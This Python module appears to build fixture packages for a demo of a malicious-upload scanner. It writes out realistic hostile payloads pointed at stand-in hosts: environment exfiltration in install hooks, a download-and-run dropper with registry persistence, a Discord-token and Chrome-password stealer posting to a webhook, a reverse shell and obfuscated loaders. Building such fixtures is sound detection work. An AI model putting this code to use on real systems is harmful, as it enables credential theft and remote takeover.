"""The uploads of the demo that look like malware and can do nothing, built in memory.

They have the shape of real behaviours, with payload text that only names ``.invalid`` hosts and documentation
addresses; nothing here is ever run.
"""

import base64
import zlib

from bot.demo.packages import Package, sdist, wheel

__all__ = ["DISMISSED", "ESTABLISHED", "HOSTILE"]

_COLLECTOR = """
import os, json, urllib.request
found = {"host": os.uname().nodename, "user": os.environ.get("USER"), "env": dict(os.environ)}
body = json.dumps(found).encode()
urllib.request.urlopen(urllib.request.Request("http://collect.invalid/in", data=body))
"""


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _decode_and_run() -> Package:
    setup = f"""import base64
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        exec(base64.b64decode("{_encoded(_COLLECTOR)}"))


setup(name="brightmesh-sdk", version="0.1.0", cmdclass={{"install": PostInstall}})
"""
    members = {"setup.py": setup, "brightmesh_sdk/__init__.py": ""}
    return sdist("brightmesh-sdk", "0.1.0", members, "A kit", "decode-and-exec in setup.py")


def _download_and_run() -> Package:
    setup = """import os
import subprocess
import tempfile
import urllib.request
from setuptools import setup
from setuptools.command.install import install


def prepare():
    target = os.path.join(tempfile.gettempdir(), "svchost.exe")
    urllib.request.urlretrieve("http://203.0.113.9:8080/payload/svchost.exe", target)
    subprocess.Popen([target], creationflags=0x08000000)
    run = "HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
    subprocess.call(f"reg add {run} /v Updater /d {target} /f", shell=True)


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            prepare()
        except Exception:
            pass


setup(name="quickpatch-tools", version="1.0.2", cmdclass={"install": PostInstall})
"""
    members = {"setup.py": setup, "quickpatch_tools/__init__.py": ""}
    return sdist("quickpatch-tools", "1.0.2", members, "Tools", "download-and-run in setup.py")


def _startup() -> Package:
    hidden = base64.b64encode(_COLLECTOR.encode()).decode()
    line = f"import base64; exec(base64.b64decode('{hidden}'))\n"
    members = {"northwind_boot.pth": line, "northwind_boot/__init__.py": ""}
    return wheel("northwind-boot", "0.0.3", members, "Boot", "startup .pth")


def _webhook_theft() -> Package:
    token = "a" * 68
    init = f"""import base64
import json
import os
import re
import shutil
import sqlite3
import urllib.request

import win32crypt

WEBHOOK = "https://chat.example.invalid/api/webhooks/1234567890123456789/{token}"
"""
    init += """
ROAMING = os.getenv("APPDATA") or ""
LOCAL = os.getenv("LOCALAPPDATA") or ""
TOKENS = {
    "Discord": ROAMING + "\\\\discord\\\\Local Storage\\\\leveldb",
    "Canary": ROAMING + "\\\\discordcanary\\\\Local Storage\\\\leveldb",
}
LOGINS = LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data"
STATE = LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Local State"


def find_tokens(path):
    tokens = []
    for name in os.listdir(path):
        if not name.endswith((".log", ".ldb")):
            continue
        for line in open(os.path.join(path, name), errors="ignore"):
            tokens += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line) + re.findall(r"mfa\\.[\\w-]{84}", line)
    return tokens


def find_logins():
    key = base64.b64decode(json.load(open(STATE))["os_crypt"]["encrypted_key"])[5:]
    key = win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]
    shutil.copy2(LOGINS, "logins.db")
    rows = sqlite3.connect("logins.db").execute("SELECT origin_url, username_value, password_value FROM logins")
    return [(url, user, password.hex()) for url, user, password in rows]


def send():
    found = {name: find_tokens(path) for name, path in TOKENS.items() if os.path.exists(path)}
    address = urllib.request.urlopen("https://ip.example.invalid").read().decode()
    body = json.dumps({"content": f"{address} {found} {find_logins()}"}).encode()
    urllib.request.urlopen(urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"}))


try:
    send()
except Exception:
    pass
"""
    members = {"chatpalette_themes/__init__.py": init}
    return wheel("chatpalette-themes", "2.1.0", members, "Themes", "token and password theft over a webhook")


def _reverse_shell() -> Package:
    setup = """import os
import pty
import socket
from setuptools import setup

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.23", 4444))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
os.environ["HISTFILE"] = "/dev/null"
pty.spawn("/bin/sh")

setup(name="gridpilot-agent", version="9.9.9")
"""
    return sdist("gridpilot-agent", "9.9.9", {"setup.py": setup}, "Agent", "reverse shell in setup.py")


def _layered() -> Package:
    text = _COLLECTOR
    for _ in range(2):
        packed = base64.b64encode(zlib.compress(text.encode())).decode()
        text = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
    members = {"vaultline_core/__init__.py": f'"""Core."""\n{text}'}
    return wheel("vaultline-core", "0.4.1", members, "Core", "layered base64 > zlib")


_LEDGER = '''"""Ledgers with double entries."""


class Ledger:
    """Accounts and their balance."""

    def __init__(self) -> None:
        self.balance: dict[str, int] = {}

    def book(self, debit: str, credit: str, amount: int) -> None:
        """Move an amount from one account to another."""
        self.balance[debit] = self.balance.get(debit, 0) - amount
        self.balance[credit] = self.balance.get(credit, 0) + amount
'''


def _established(version: str, extra: str = "", behaviour: str = "") -> Package:
    members = {"cedarledger/__init__.py": _LEDGER + extra}
    return wheel("cedarledger", version, members, "Ledgers with double entries", behaviour)


def _takeover() -> Package:
    extra = f"""

import base64, os, subprocess, sys

if not os.environ.get("CI"):
    subprocess.Popen([sys.executable, "-c", base64.b64decode("{_encoded(_COLLECTOR)}").decode()])
    exec(base64.b64decode("{_encoded(_COLLECTOR)}"))
"""
    return _established("3.3.0", extra, "takeover of an established project")


def _looks_worse_than_it_is() -> Package:
    strokes = base64.b64encode(zlib.compress(b"STROKES = [(0, 0), (1, 2), (3, 5), (8, 13), (21, 34)]\n")).decode()
    setup = f"""import base64
import zlib
from setuptools import setup
from setuptools.command.build_py import build_py


class Drawing(build_py):
    # The logo is kept as text so that the source stays one file; this is the table of its strokes.
    def run(self):
        table = {{}}
        exec(zlib.decompress(base64.b64decode("{strokes}")), table)
        self.announce(str(table["STROKES"]))
        build_py.run(self)


setup(name="inkwell-logo", version="0.2.0", packages=["inkwell_logo"], cmdclass={{"build_py": Drawing}})
"""
    members = {"setup.py": setup, "inkwell_logo/__init__.py": ""}
    return sdist("inkwell-logo", "0.2.0", members, "A logo", "harmless, but runs decoded text")


ESTABLISHED = (_established("3.0.0"), _established("3.1.0"), _established("3.2.0"))
DISMISSED = _looks_worse_than_it_is()
HOSTILE = {
    "decode": _decode_and_run(),
    "download": _download_and_run(),
    "startup": _startup(),
    "webhook": _webhook_theft(),
    "shell": _reverse_shell(),
    "layered": _layered(),
    "takeover": _takeover(),
}
